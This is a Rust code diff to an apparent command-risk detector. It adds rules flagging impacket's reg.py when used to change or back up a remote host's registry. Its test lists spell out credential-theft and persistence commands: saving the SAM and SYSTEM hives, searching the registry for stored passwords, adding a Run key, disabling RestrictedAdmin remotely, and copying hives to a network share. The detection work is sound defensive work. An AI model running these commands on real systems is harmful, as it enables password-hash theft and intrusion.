@@ -376,6 +376,11 @@ pub const WINDOWS: &[Program] = &[
                 reason: "saves the registry hives that hold the local password hashes",
             },
             Sub { words: &["add|delete|import|load|restore|copy"], harm: SelfEscalation, level: Medium, reason: "changes the Windows registry (settings, services, programs run at start-up)" },
+            // impacket's reg.py, its target first (`reg.py
+            // corp/user:pass@host add -keyName ...`): another host's
+            // registry changed or its password hives saved (ppnb, session 50).
+            Sub { words: &["*@*", "add|delete"], harm: SelfEscalation, level: High, reason: "changes another host's registry remotely" },
+            Sub { words: &["*@*", "save|backup"], harm: Credential, level: High, reason: "saves another host's registry hives (its local password hashes)" },
             // Keys that hold passwords in clear or reversible form:
             // Winlogon's autologon DefaultPassword (all of the key, or a
             // password value of it: `/v DefaultUserName` is no secret),
@@ -396,7 +401,7 @@ pub const WINDOWS: &[Program] = &[
             Sub { words: &["query", "-f *pwd*"], harm: Credential, level: Medium, reason: "searches the registry for stored passwords" },
             Sub { words: &["query", "-f *secret*"], harm: Credential, level: Medium, reason: "searches the registry for stored secrets" },
         ],
-        flagged: &["reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v AltDefaultPassword", "reg query 'HKEY_CURRENT_USER\\Software\\OpenSSH\\Agent\\Keys'", "reg query \"HKCU\\Software\\SimonTatham\\PuTTY\\Sessions\" /s", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"", "reg query HKLM /f password /t REG_SZ /s", "reg query HKLM /f pass /t REG_SZ /s", "reg query HKCU /f pwd /s", "reg save HKLM\\SAM 'C:\\Windows\\Temp\\sam.save'", "reg save 'HKLM\\SYSTEM' system.save", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\Temp\\a.exe"],
+        flagged: &["reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v AltDefaultPassword", "reg query 'HKEY_CURRENT_USER\\Software\\OpenSSH\\Agent\\Keys'", "reg query \"HKCU\\Software\\SimonTatham\\PuTTY\\Sessions\" /s", "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\"", "reg query HKLM /f password /t REG_SZ /s", "reg query HKLM /f pass /t REG_SZ /s", "reg query HKCU /f pwd /s", "reg save HKLM\\SAM 'C:\\Windows\\Temp\\sam.save'", "reg save 'HKLM\\SYSTEM' system.save", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\Temp\\a.exe", "reg.py corp.local/user:pass@10.0.0.1 add -keyName 'HKLM\\System\\CurrentControlSet\\Control\\Lsa' -v DisableRestrictedAdmin -vt REG_DWORD -vd 0", "impacket-reg corp.local/user:pass@10.0.0.1 backup -o '\\\\10.0.0.5\\share'"],
         clean: &[
             "reg query HKCU\\Software\\Example",
             "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v DefaultUserName",
